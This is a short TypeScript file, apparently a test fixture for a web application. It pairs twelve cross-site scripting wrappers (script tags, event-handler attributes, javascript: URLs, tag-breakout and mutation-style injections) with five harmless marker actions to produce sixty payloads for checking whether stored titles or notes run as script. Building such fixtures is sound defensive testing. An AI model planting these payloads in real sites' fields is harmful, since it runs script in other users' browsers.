// What somebody might write into a title or a note to be run in another's browser:
// each of twelve vessels around each of five acts. An act that runs says so.

const ACTS = ["top.ran=1", "alert(1)", "document.title='ran'", "fetch('/ran')", "location.hash='ran'"];

const VESSELS: ((act: string) => string)[] = [
  (act) => `<script>${act}</script>`,
  (act) => `</dd></p><script>${act}</script>`,
  (act) => `<img src=x onerror="${act}">`,
  (act) => `"><svg onload="${act}">`,
  (act) => `'><body onload='${act.replaceAll("'", "&#39;")}'>`,
  (act) => `<a href="javascript:${act}">x</a>`,
  (act) => `javascript:${act}`,
  (act) => `<iframe srcdoc="<script>${act}</script>"></iframe>`,
  (act) => `<details open ontoggle="${act}">`,
  (act) => `</title></textarea></style><img src=x onerror="${act}">`,
  (act) => `<math><mtext><style><img src=x onerror="${act}"></style>`,
  (act) => `\${${act}}{{${act}}}<input autofocus onfocus="${act}">`,
];

export const PAYLOADS = VESSELS.flatMap((vessel) => ACTS.map(vessel));
